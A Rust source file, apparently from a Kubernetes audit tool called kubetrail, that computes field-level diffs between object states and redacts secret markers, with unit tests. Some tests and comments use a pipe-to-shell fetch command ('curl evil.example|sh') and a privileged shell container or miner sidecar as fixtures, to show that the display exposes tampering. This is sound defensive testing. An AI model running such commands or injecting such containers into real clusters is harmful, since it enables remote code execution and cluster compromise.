//! What changed between two states of one object, field by field: leaf-level [`FieldChange`]s with dotted
//! paths, lists of merge-keyed items (containers by `name`, ...) matched by key rather than position, the
//! fields the apiserver owns (`metadata.resourceVersion`, `managedFields`, ...) left out, kubetrail's
//! redaction markers shown as [`Val::Redacted`] and never as their text.
//!
//! Written by hand rather than with a JSON diff crate (`json-patch`'s `diff`, `serde_json_diff`): those
//! produce RFC 6902 operations or generic trees, compare lists by position, and would need a second pass for
//! everything above (merge keys, noise, markers, the cap and the depth bound).

use std::borrow::Cow;
use std::collections::{HashMap, HashSet};
use std::fmt;

use serde_json::Value;

use crate::marker;
use crate::path::{self, Seg};
use crate::schema::{self, Scope};

/// The most changes one call lists; the rest are counted (see [`changes_capped`]).
pub const MAX_CHANGES: usize = 500;
/// The deepest nesting compared field by field: a deeper subtree is compared as one value, so hostile input
/// cannot exhaust the stack.
pub const MAX_DEPTH: usize = 64;
/// About the most characters of a value [`FieldChange`]'s `Display` shows (then `…`).
pub const MAX_SHOWN_CHARS: usize = 200;

/// One side of a change.
#[derive(Debug, Clone, PartialEq, serde::Serialize)]
#[serde(tag = "state", content = "value", rename_all = "snake_case")]
pub enum Val {
    /// The field was not there.
    Absent,
    /// Not recorded (no earlier state known).
    Unknown,
    /// The field's value (strings holding a redaction marker inside an object or list have it replaced by
    /// `[redacted]`).
    Value(Value),
    /// A kubetrail redaction marker: never the marker's text, never the secret. `len` is the secret's length
    /// when the string was exactly one marker.
    Redacted {
        /// The redacted value's length in bytes, when known.
        len: Option<u64>,
    },
}

impl Val {
    /// The value as a change shows it: a redaction marker as [`Val::Redacted`], markers inside a longer string,
    /// an object or a list replaced by `[redacted]`.
    pub fn of(v: &Value) -> Val {
        match v {
            Value::String(s) => match marker::exact(s) {
                Some(len) => Val::Redacted { len },
                // Only the marker is hidden: the text around it is the client's, and may be what matters
                // (`curl evil|sh #<marker>` must not read as a secret).
                None if marker::contains(s) => {
                    Val::Value(Value::String(marker::replace(s, "[redacted]").into_owned()))
                }
                None => Val::Value(v.clone()),
            },
            Value::Object(_) | Value::Array(_) => Val::Value(scrubbed(v)),
            _ => Val::Value(v.clone()),
        }
    }
}

/// `v` with markers in its strings replaced by `[redacted]` (iteratively: no recursion on the input's depth).
fn scrubbed(v: &Value) -> Value {
    let mut v = v.clone();
    let mut stack = vec![&mut v];
    while let Some(x) = stack.pop() {
        match x {
            Value::String(s) => {
                if let Cow::Owned(r) = marker::replace(s, "[redacted]") {
                    *s = r;
                }
            }
            Value::Array(a) => stack.extend(a.iter_mut()),
            Value::Object(m) => stack.extend(m.values_mut()),
            _ => {}
        }
    }
    v
}

/// One field's change.
#[derive(Debug, Clone, PartialEq, serde::Serialize)]
pub struct FieldChange {
    /// `spec.template.spec.containers[0].image`, `metadata.labels["app.kubernetes.io/name"]`.
    pub path: String,
    pub before: Val,
    pub after: Val,
}

/// `s` cut at [`MAX_SHOWN_CHARS`] characters, with `…`.
fn cut(mut s: String) -> String {
    if let Some((i, _)) = s.char_indices().nth(MAX_SHOWN_CHARS) {
        s.truncate(i);
        s.push('…');
    }
    s
}

/// Compact JSON of `v`, no longer than needed for [`cut`] (a megabyte ConfigMap is not serialized whole).
fn json_prefix(v: &Value) -> String {
    struct Bounded(Vec<u8>);
    impl std::io::Write for Bounded {
        fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
            if self.0.len() > MAX_SHOWN_CHARS * 4 + 8 {
                return Err(std::io::ErrorKind::WriteZero.into());
            }
            self.0.extend_from_slice(buf);
            Ok(buf.len())
        }
        fn flush(&mut self) -> std::io::Result<()> {
            Ok(())
        }
    }
    let mut w = Bounded(Vec::new());
    let _ = serde_json::to_writer(&mut w, v);
    String::from_utf8_lossy(&w.0).into_owned()
}

/// Whether a string reads unambiguously without quotes: not empty, no whitespace or control characters, and
/// not mistakable for another JSON value or for how a change shows an absent, unknown or redacted side.
fn bare(s: &str) -> bool {
    !s.is_empty()
        && !s.chars().any(|c| c.is_whitespace() || c.is_control())
        && !matches!(s, "true" | "false" | "null" | "?")
        && !s.starts_with(['(', '[', '{', '"'])
        && s.parse::<f64>().is_err()
}

/// `s` at most [`MAX_SHOWN_CHARS`] characters: its head and its tail around `…` (what is appended after
/// padding is shown: `--config=a.yaml<2,000 spaces>; curl evil|sh` does not end at the padding), and whether
/// it was cut.
pub fn head_tail(s: &str, max: usize) -> (String, bool) {
    let n = s.chars().count();
    if n <= max {
        return (s.to_string(), false);
    }
    let half = max / 2;
    let head: String = s.chars().take(half).collect();
    let tail: String = s.chars().skip(n - half).collect();
    (format!("{head}…{tail}"), true)
}

/// A value as [`FieldChange`]'s `Display` shows it.
fn shown(v: &Value) -> String {
    match v {
        Value::String(s) => {
            let (text, was_cut) = head_tail(s, MAX_SHOWN_CHARS);
            let mut out = if bare(s) {
                text
            } else {
                Value::String(text).to_string()
            };
            if was_cut {
                out.push_str(&format!(" ({} characters)", s.chars().count()));
            }
            out
        }
        other => cut(json_prefix(other)),
    }
}

impl fmt::Display for FieldChange {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let side = |v: &Val, absent: &'static str| -> Cow<'static, str> {
            match v {
                Val::Absent => Cow::Borrowed(absent),
                Val::Unknown => Cow::Borrowed("?"),
                Val::Redacted { .. } => Cow::Borrowed("[redacted]"),
                Val::Value(v) => Cow::Owned(shown(v)),
            }
        };
        let after = match (&self.before, &self.after) {
            (Val::Redacted { .. }, Val::Redacted { .. }) => Cow::Borrowed("[redacted, changed]"),
            (_, a) => side(a, "(removed)"),
        };
        write!(
            f,
            "{}: {} -> {}",
            self.path,
            side(&self.before, "(absent)"),
            after
        )
    }
}

/// The leaf changes from `before` to `after` (two states of one object), at most [`MAX_CHANGES`].
/// `ignore_status` leaves out `status` (pass `false` for a write to the `status` subresource).
pub fn changes(before: &Value, after: &Value, ignore_status: bool) -> Vec<FieldChange> {
    changes_capped(before, after, ignore_status).0
}

/// [`changes`], and how many more changes there were past [`MAX_CHANGES`] (not listed).
pub fn changes_capped(
    before: &Value,
    after: &Value,
    ignore_status: bool,
) -> (Vec<FieldChange>, usize) {
    let scope = if ignore_status {
        Scope::NoStatus
    } else {
        Scope::All
    };
    changes_in(before, after, scope)
}

/// [`changes_capped`] within `scope`.
pub(crate) fn changes_in(before: &Value, after: &Value, scope: Scope) -> (Vec<FieldChange>, usize) {
    let mut out = Out::new(scope);
    out.walk(&mut Vec::new(), None, None, Some(before), Some(after), 0);
    (out.list, out.more)
}

/// One side of a change, before it is made a [`Val`] (only when listed).
#[derive(Debug, Clone, Copy)]
pub(crate) enum Side<'v> {
    Absent,
    Unknown,
    /// `{}` (a map emptied by `$patch: delete`).
    EmptyObject,
    Of(&'v Value),
}

impl Side<'_> {
    fn val(self) -> Val {
        match self {
            Side::Absent => Val::Absent,
            Side::Unknown => Val::Unknown,
            Side::EmptyObject => Val::Value(Value::Object(serde_json::Map::new())),
            Side::Of(v) => Val::of(v),
        }
    }

    fn or_absent(v: Option<&Value>) -> Side<'_> {
        v.map_or(Side::Absent, Side::Of)
    }
}

/// How the leaves of a whole subtree are listed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Leaves {
    /// `(absent) -> v`.
    Added,
    /// `? -> v`: set, nothing earlier known.
    Set,
    /// `v -> (removed)`.
    Removed,
}

/// Whether `v` is listed as one line (not a non-empty object or list).
fn is_leaf(v: &Value) -> bool {
    match v {
        Value::Object(m) => m.is_empty(),
        Value::Array(a) => a.is_empty(),
        _ => true,
    }
}

/// Changes being gathered: at most [`MAX_CHANGES`], the rest counted.
#[derive(Debug)]
pub(crate) struct Out {
    pub(crate) list: Vec<FieldChange>,
    pub(crate) more: usize,
    pub(crate) scope: Scope,
}

impl Out {
    pub(crate) fn new(scope: Scope) -> Out {
        Out {
            list: Vec::new(),
            more: 0,
            scope,
        }
    }

    /// Lists one change (or counts it, past the cap).
    pub(crate) fn emit(&mut self, path: &[Seg<'_>], before: Side<'_>, after: Side<'_>) {
        if self.list.len() >= MAX_CHANGES {
            self.more += 1;
            return;
        }
        let (mut before, mut after) = (before.val(), after.val());
        if before == after && matches!(before, Val::Value(_)) {
            // Listed because the raw values differ, shown alike: only a redacted part changed.
            (before, after) = (Val::Redacted { len: None }, Val::Redacted { len: None });
        }
        self.list.push(FieldChange {
            path: path::render(path),
            before,
            after,
        });
    }

    /// Lists every leaf of `v` at `path` (an empty object or list as one).
    pub(crate) fn leaves<'v>(
        &mut self,
        path: &mut Vec<Seg<'v>>,
        v: &'v Value,
        depth: usize,
        how: Leaves,
    ) {
        match v {
            Value::Object(m) if !m.is_empty() && depth < MAX_DEPTH => {
                for (k, c) in m {
                    path.push(Seg::Key(Cow::Borrowed(k)));
                    if !self.scope.excludes(path) {
                        self.leaves(path, c, depth + 1, how);
                    }
                    path.pop();
                }
            }
            Value::Array(a) if !a.is_empty() && depth < MAX_DEPTH => {
                for (i, c) in a.iter().enumerate() {
                    path.push(Seg::Index(i));
                    self.leaves(path, c, depth + 1, how);
                    path.pop();
                }
            }
            _ => match how {
                Leaves::Added => self.emit(path, Side::Absent, Side::Of(v)),
                Leaves::Set => self.emit(path, Side::Unknown, Side::Of(v)),
                Leaves::Removed => self.emit(path, Side::Of(v), Side::Absent),
            },
        }
    }

    /// The changes from `b` to `a` at `path`; `field` is the key the values sit under (a list item's: its
    /// list's), `parent` the key of the map holding that.
    fn walk<'v>(
        &mut self,
        path: &mut Vec<Seg<'v>>,
        field: Option<&'v str>,
        parent: Option<&'v str>,
        b: Option<&'v Value>,
        a: Option<&'v Value>,
        depth: usize,
    ) {
        match (b, a) {
            (None, None) => {}
            (Some(b), Some(a)) if b == a => {}
            (Some(Value::Object(bm)), Some(Value::Object(am))) if depth < MAX_DEPTH => {
                let mut keys: Vec<&'v String> = bm
                    .keys()
                    .chain(am.keys().filter(|k| !bm.contains_key(*k)))
                    .collect();
                keys.sort();
                for k in keys {
                    path.push(Seg::Key(Cow::Borrowed(k)));
                    if !self.scope.excludes(path) {
                        self.walk(path, Some(k), field, bm.get(k), am.get(k), depth + 1);
                    }
                    path.pop();
                }
            }
            (Some(Value::Array(bl)), Some(Value::Array(al))) if depth < MAX_DEPTH => {
                self.list(path, field, parent, bl, al, depth);
            }
            _ if depth >= MAX_DEPTH => self.emit(path, Side::or_absent(b), Side::or_absent(a)),
            _ => {
                let (b_leaf, a_leaf) = (b.filter(|v| is_leaf(v)), a.filter(|v| is_leaf(v)));
                if let Some(b) = b.filter(|v| !is_leaf(v)) {
                    self.leaves(path, b, depth, Leaves::Removed);
                }
                if b_leaf.is_some() || a_leaf.is_some() {
                    self.emit(path, Side::or_absent(b_leaf), Side::or_absent(a_leaf));
                }
                if let Some(a) = a.filter(|v| !is_leaf(v)) {
                    self.leaves(path, a, depth, Leaves::Added);
                }
            }
        }
    }

    /// Two lists: by merge key where the list has one (and every item carries a distinct one), as sets for a
    /// merged list of strings (`finalizers`), else by position.
    fn list<'v>(
        &mut self,
        path: &mut Vec<Seg<'v>>,
        field: Option<&'v str>,
        parent: Option<&'v str>,
        bl: &'v [Value],
        al: &'v [Value],
        depth: usize,
    ) {
        let mk = field.and_then(|f| schema::merge_key(parent, f));
        if let Some(mk) = mk
            && let (Some(before), Some(_)) = (keyed(bl, mk), keyed(al, mk))
        {
            let mut matched = vec![false; bl.len()];
            for (i, item) in al.iter().enumerate() {
                let j = item.get(mk).and_then(|k| before.get(&key_text(k))).copied();
                if let Some(j) = j {
                    matched[j] = true;
                }
                path.push(Seg::Index(i));
                self.walk(
                    path,
                    field,
                    parent,
                    j.map(|j| &bl[j]),
                    Some(item),
                    depth + 1,
                );
                path.pop();
            }
            for (j, item) in bl.iter().enumerate().filter(|(j, _)| !matched[*j]) {
                path.push(Seg::Index(j));
                self.walk(path, field, parent, Some(item), None, depth + 1);
                path.pop();
            }
            return;
        }
        if field.is_some_and(|f| schema::merges_primitives(parent, f))
            && bl.iter().chain(al).all(Value::is_string)
        {
            let b: HashSet<&str> = bl.iter().filter_map(Value::as_str).collect();
            let a: HashSet<&str> = al.iter().filter_map(Value::as_str).collect();
            for (j, v) in bl.iter().enumerate() {
                if !v.as_str().is_some_and(|s| a.contains(s)) {
                    path.push(Seg::Index(j));
                    self.emit(path, Side::Of(v), Side::Absent);
                    path.pop();
                }
            }
            for (i, v) in al.iter().enumerate() {
                if !v.as_str().is_some_and(|s| b.contains(s)) {
                    path.push(Seg::Index(i));
                    self.emit(path, Side::Absent, Side::Of(v));
                    path.pop();
                }
            }
            return;
        }
        for i in 0..bl.len().max(al.len()) {
            path.push(Seg::Index(i));
            self.walk(path, field, parent, bl.get(i), al.get(i), depth + 1);
            path.pop();
        }
    }
}

/// A merge key's value as a map key (its compact JSON: `"api"` and `80` stay distinct).
pub(crate) fn key_text(v: &Value) -> String {
    v.to_string()
}

/// The index of each item by its merge key, when every item is an object with a distinct scalar one.
fn keyed(list: &[Value], mk: &str) -> Option<HashMap<String, usize>> {
    let mut index = HashMap::with_capacity(list.len());
    for (i, item) in list.iter().enumerate() {
        let k = item
            .get(mk)
            .filter(|k| !k.is_object() && !k.is_array() && !k.is_null())?;
        if index.insert(key_text(k), i).is_some() {
            return None;
        }
    }
    Some(index)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    const M1: &str = "kubetrail-redacted:len=7:hmac=AAAAAAAAAAAAAAAAAAAAAA";
    const M2: &str = "kubetrail-redacted:len=7:hmac=BBBBBBBBBBBBBBBBBBBBBB";

    fn lines(before: &Value, after: &Value) -> Vec<String> {
        changes(before, after, true)
            .iter()
            .map(ToString::to_string)
            .collect()
    }

    fn deployment(containers: Value) -> Value {
        json!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "api"},
               "spec": {"template": {"spec": {"containers": containers}}}})
    }

    #[test]
    fn a_long_value_shows_its_tail_too() {
        let padded = format!("--config=a.yaml{}; curl evil.example|sh", " ".repeat(3000));
        let c = changes(&json!({"args": ["x"]}), &json!({"args": [padded]}), true);
        let line = c[0].to_string();
        assert!(
            line.ends_with(&format!(
                "curl evil.example|sh\" ({} characters)",
                padded.chars().count()
            )),
            "{line}"
        );
        assert!(line.contains("--config=a.yaml"), "{line}");
        assert!(line.len() < 400, "{line}");
    }

    #[test]
    fn lists_leaf_changes_with_dotted_paths() {
        let before = deployment(json!([{"name": "api", "image": "corp/api:2"}]));
        let after = deployment(json!([{"name": "api", "image": "evil/api:2"}]));
        assert_eq!(
            lines(&before, &after),
            ["spec.template.spec.containers[0].image: corp/api:2 -> evil/api:2"]
        );
        assert!(changes(&before, &before, true).is_empty());
    }

    #[test]
    fn shows_absent_removed_and_quoted_keys() {
        let before = json!({"metadata": {"labels": {"app.kubernetes.io/name": "api"}}, "spec": {"replicas": 3}});
        let after =
            json!({"metadata": {"labels": {"tier": "web", "app.kubernetes.io/name": "web"}}});
        assert_eq!(
            lines(&before, &after),
            [
                r#"metadata.labels["app.kubernetes.io/name"]: api -> web"#,
                "metadata.labels.tier: (absent) -> web",
                "spec.replicas: 3 -> (removed)",
            ]
        );
    }

    #[test]
    fn an_added_subtree_is_listed_leaf_by_leaf() {
        let before = deployment(json!([{"name": "api", "image": "a"}]));
        let after = deployment(json!([
            {"name": "api", "image": "a"},
            {"name": "shell", "image": "busybox", "securityContext": {"privileged": true}, "args": []}
        ]));
        let got = lines(&before, &after);
        assert!(
            got.contains(
                &"spec.template.spec.containers[1].securityContext.privileged: (absent) -> true"
                    .into()
            ),
            "{got:?}"
        );
        assert!(got.contains(&"spec.template.spec.containers[1].args: (absent) -> []".into()));
        assert!(got.contains(&"spec.template.spec.containers[1].name: (absent) -> shell".into()));
        assert_eq!(got.len(), 4, "{got:?}");
        // Removed whole: each leaf.
        let got = lines(&after, &before);
        assert!(
            got.contains(
                &"spec.template.spec.containers[1].securityContext.privileged: true -> (removed)"
                    .into()
            )
        );
    }

    #[test]
    fn merge_keyed_items_are_matched_by_key_not_position() {
        let before = deployment(json!([
            {"name": "api", "image": "corp/api:2"},
            {"name": "log", "image": "corp/log:1"}
        ]));
        let after = deployment(json!([
            {"name": "sidecar", "image": "evil/miner"},
            {"name": "api", "image": "corp/api:2"},
            {"name": "log", "image": "corp/log:1"}
        ]));
        assert_eq!(
            lines(&before, &after),
            [
                "spec.template.spec.containers[0].image: (absent) -> evil/miner",
                "spec.template.spec.containers[0].name: (absent) -> sidecar",
            ]
        );
        // A removed item is at its index in the earlier list.
        assert_eq!(
            lines(&after, &before),
            [
                "spec.template.spec.containers[0].image: evil/miner -> (removed)",
                "spec.template.spec.containers[0].name: sidecar -> (removed)",
            ]
        );
        // Without a merge key (tolerations) lists compare by position.
        let b = json!({"spec": {"tolerations": [{"key": "a"}]}});
        let a = json!({"spec": {"tolerations": [{"key": "b"}, {"key": "a"}]}});
        assert_eq!(
            lines(&b, &a),
            [
                "spec.tolerations[0].key: a -> b",
                "spec.tolerations[1].key: (absent) -> a"
            ]
        );
    }

    #[test]
    fn container_ports_and_service_ports_have_their_own_keys() {
        let b = json!({"spec": {"ports": [{"port": 80, "name": "http"}, {"port": 443, "name": "https"}]}});
        let a = json!({"spec": {"ports": [{"port": 443, "name": "https"}]}});
        assert_eq!(
            lines(&b, &a),
            [
                "spec.ports[0].name: http -> (removed)",
                "spec.ports[0].port: 80 -> (removed)"
            ]
        );
        let b = json!({"spec": {"containers": [{"name": "c", "ports": [{"containerPort": 80}, {"containerPort": 81}]}]}});
        let a = json!({"spec": {"containers": [{"name": "c", "ports": [{"containerPort": 81}]}]}});
        assert_eq!(
            lines(&b, &a),
            ["spec.containers[0].ports[0].containerPort: 80 -> (removed)"]
        );
    }

    #[test]
    fn finalizers_compare_as_sets() {
        let b = json!({"metadata": {"finalizers": ["a", "b"]}});
        let a = json!({"metadata": {"finalizers": ["b", "c"]}});
        assert_eq!(
            lines(&b, &a),
            [
                "metadata.finalizers[0]: a -> (removed)",
                "metadata.finalizers[1]: (absent) -> c"
            ]
        );
    }

    #[test]
    fn noise_and_status_are_left_out() {
        let b = json!({"metadata": {"name": "x", "resourceVersion": "1", "generation": 1, "uid": "u1",
                       "managedFields": [{"manager": "a"}], "creationTimestamp": "t", "selfLink": "/x",
                       "annotations": {"kubectl.kubernetes.io/last-applied-configuration": "{}"}},
                       "status": {"phase": "Pending"}});
        let a = json!({"metadata": {"name": "x", "resourceVersion": "2", "generation": 2, "uid": "u2",
                       "managedFields": [{"manager": "b"}], "creationTimestamp": "t2",
                       "annotations": {"kubectl.kubernetes.io/last-applied-configuration": "{\"a\":1}"}},
                       "status": {"phase": "Running"}});
        assert_eq!(lines(&b, &a), Vec::<String>::new());
        assert_eq!(
            changes(&b, &a, false)
                .iter()
                .map(ToString::to_string)
                .collect::<Vec<_>>(),
            ["status.phase: Pending -> Running"]
        );
        // The noise is only the object's own metadata: a pod template's is the object's spec.
        let b = json!({"spec": {"template": {"metadata": {"uid": "a"}}}});
        let a = json!({"spec": {"template": {"metadata": {"uid": "b"}}}});
        assert_eq!(lines(&b, &a), ["spec.template.metadata.uid: a -> b"]);
    }

    #[test]
    fn redaction_markers_are_never_shown() {
        let password = |m: &str| json!({"data": {"password": m}});
        assert!(
            lines(&password(M1), &password(M1)).is_empty(),
            "the same marker is the same secret"
        );
        let changed = changes(&password(M1), &password(M2), true);
        assert_eq!(changed[0].before, Val::Redacted { len: Some(7) });
        assert_eq!(
            changed[0].to_string(),
            "data.password: [redacted] -> [redacted, changed]"
        );
        let url = |m: &str| json!({"spec": {"url": format!("postgres://app:{m}@db/app")}});
        let in_url = changes(&url(M1), &url(M2), true);
        assert_eq!(
            in_url[0].after,
            Val::Redacted { len: None },
            "only the secret changed"
        );
        // The client's text around a marker is shown: a command must not hide behind one.
        let cmd = |c: &str| json!({"spec": {"args": [format!("{c} #{M1}")]}});
        let hidden = changes(&cmd("sleep 1"), &cmd("curl evil.example|sh"), true);
        assert_eq!(
            hidden[0].to_string(),
            "spec.args[0]: \"sleep 1 #[redacted]\" -> \"curl evil.example|sh #[redacted]\""
        );
        let added = changes(&json!({}), &password(M1), true);
        assert_eq!(
            added[0].to_string(),
            "data.password: (absent) -> [redacted]"
        );
        // Inside a value listed whole (past the depth bound).
        let mut deep = json!({"p": M1});
        for _ in 0..MAX_DEPTH {
            deep = json!({"a": deep});
        }
        let whole = changes(&json!({}), &deep, true);
        let Val::Value(v) = &whole[0].after else {
            panic!("{whole:?}")
        };
        assert!(v.to_string().contains(r#""p":"[redacted]""#), "{v}");
        for c in [&changed, &in_url, &added, &whole] {
            let text = format!("{c:?} {} {}", serde_json::to_string(c).unwrap(), c[0]);
            assert!(
                !text.contains("hmac") && !text.contains("AAAA") && !text.contains("BBBB"),
                "{text}"
            );
        }
    }

    #[test]
    fn values_are_shown_readably() {
        let c = |b: Value, a: Value| {
            FieldChange {
                path: "x".into(),
                before: Val::of(&b),
                after: Val::of(&a),
            }
            .to_string()
        };
        assert_eq!(c(json!("a b"), json!("")), r#"x: "a b" -> """#);
        assert_eq!(c(json!("3"), json!(3)), r#"x: "3" -> 3"#);
        assert_eq!(c(json!("true"), json!(true)), r#"x: "true" -> true"#);
        assert_eq!(c(json!({"a": [1]}), json!(null)), r#"x: {"a":[1]} -> null"#);
        assert_eq!(
            c(json!("line\nbreak"), json!("x")),
            r#"x: "line\nbreak" -> x"#
        );
        let long = "x".repeat(5000);
        let shown = c(json!(long), json!([long]));
        assert!(shown.len() < 600, "{}", shown.len());
        assert!(shown.ends_with('…'));
        let unknown = FieldChange {
            path: "x".into(),
            before: Val::Unknown,
            after: Val::Absent,
        };
        assert_eq!(unknown.to_string(), "x: ? -> (removed)");
    }

    #[test]
    fn type_changes_list_both_sides() {
        assert_eq!(
            lines(&json!({"a": {"b": 1}}), &json!({"a": 5})),
            ["a.b: 1 -> (removed)", "a: (absent) -> 5"]
        );
        assert_eq!(lines(&json!({"a": 5}), &json!({"a": {}})), ["a: 5 -> {}"]);
    }

    #[test]
    fn the_cap_counts_what_it_leaves_out() {
        let after: serde_json::Map<String, Value> = (0..MAX_CHANGES + 17)
            .map(|i| (format!("k{i:04}"), json!(i)))
            .collect();
        let (list, more) = changes_capped(&json!({}), &Value::Object(after), true);
        assert_eq!(list.len(), MAX_CHANGES);
        assert_eq!(more, 17);
        assert_eq!(changes(&json!({}), &json!({"a": 1}), true).len(), 1);
    }

    #[test]
    fn deep_nesting_is_compared_whole_past_the_bound() {
        // As deep as serde_json parses (128 levels), the deepest a stored body can be.
        let nested = |leaf: &str| format!("{}{leaf}{}", r#"{"a":"#.repeat(127), "}".repeat(127));
        let before: Value = serde_json::from_str(&nested("1")).unwrap();
        let after: Value = serde_json::from_str(&nested("2")).unwrap();
        // Run on a small stack: the walk stops at MAX_DEPTH levels.
        let got = std::thread::Builder::new()
            .stack_size(512 * 1024)
            .spawn(move || changes(&before, &after, true))
            .unwrap()
            .join()
            .unwrap();
        assert_eq!(got.len(), 1);
        assert_eq!(got[0].path, vec!["a"; MAX_DEPTH].join("."));
        let Val::Value(v) = &got[0].after else {
            panic!("{got:?}")
        };
        assert!(
            v.to_string()
                .ends_with(&format!("2{}", "}".repeat(127 - MAX_DEPTH)))
        );
    }
}
